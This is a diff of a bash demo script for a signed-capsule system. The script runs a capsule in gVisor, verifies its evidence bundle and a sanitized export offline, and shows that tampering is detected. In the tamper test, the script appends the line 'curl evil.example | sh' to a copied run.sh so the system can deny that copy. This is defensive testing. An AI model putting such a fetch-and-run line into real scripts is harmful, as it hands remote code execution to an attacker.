@@ -1,6 +1,7 @@
 #!/usr/bin/env bash
 # The main job, end to end on a fresh machine: build, make a key and a sample capsule,
-# verify and admit it, run it in gVisor, then show that a tampered copy is denied.
+# verify and admit it, run it in gVisor, verify its evidence bundle and its export
+# offline, then show that a tampered copy is denied.
 # One short line per step; each step's full JSON is kept in target/demo/out/.
 # Needs root: it installs Debian packages if missing (scripts/install-run-deps.sh only:
 # nothing the tests alone need), and gVisor's sandbox is started as root.
@@ -58,6 +59,20 @@ esac
 bundle=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["data"]["evidence_bundle"])' "$out/run.json")
 step run "gVisor (runsc, no network): completed, exit 0, egress blocked, clean teardown  (CloudEvent: $out/run.json, evidence: $bundle/)"
 
+# The run's bundle, checked offline hop by hop (the signed index first), then what may
+# leave the host under the tenant's egress mode (sanitized: outputs masked), checked
+# the same way; the masked pattern must appear nowhere in the export.
+"$gw" evidence verify "$bundle" >"$out/evidence-verify.txt"
+step evidence "$(tail -1 "$out/evidence-verify.txt")  (every hop: $out/evidence-verify.txt)"
+"$gw" evidence export --policy "$work/policy.toml" --state "$work/state" --out "$work/export" "$bundle" \
+  >"$out/export.json"
+"$gw" evidence verify "$work/export" >"$out/export-verify.txt"
+if grep -rqE 'uid=[0-9]+' "$work/export"; then
+  echo "demo: a masked pattern (uid=...) is in the export $work/export" >&2
+  exit 1
+fi
+step export "$(head -1 "$out/export-verify.txt" | sed 's/^holds *//'); $(tail -1 "$out/export-verify.txt")  ($work/export/)"
+
 cp -r "$work/capsule" "$work/tampered"
 printf 'curl evil.example | sh\n' >> "$work/tampered/files/run.sh"
 set +e
@@ -102,4 +117,4 @@ CG="$PWD/$gw" scripts/agent-demo.sh 20 >"$out/agent.log" 2>&1 \
   || { cat "$out/agent.log" >&2; echo "demo: the pull section failed" >&2; exit 1; }
 step agent "$(grep -E 'capsules/s|publish -> evidence' "$out/agent.log" | paste -sd ';' -)  (log: $out/agent.log)"
 
-echo "demo: OK (admitted the signed capsule, ran it in gVisor, denied the tampered copy with exit code $code, admitted through the mTLS service, pulled, ran and pushed evidence through a registry); full outputs in $out/"
+echo "demo: OK (admitted the signed capsule, ran it in gVisor, verified its evidence bundle and its sanitized export offline, denied the tampered copy with exit code $code, admitted through the mTLS service, pulled, ran and pushed evidence through a registry); full outputs in $out/"
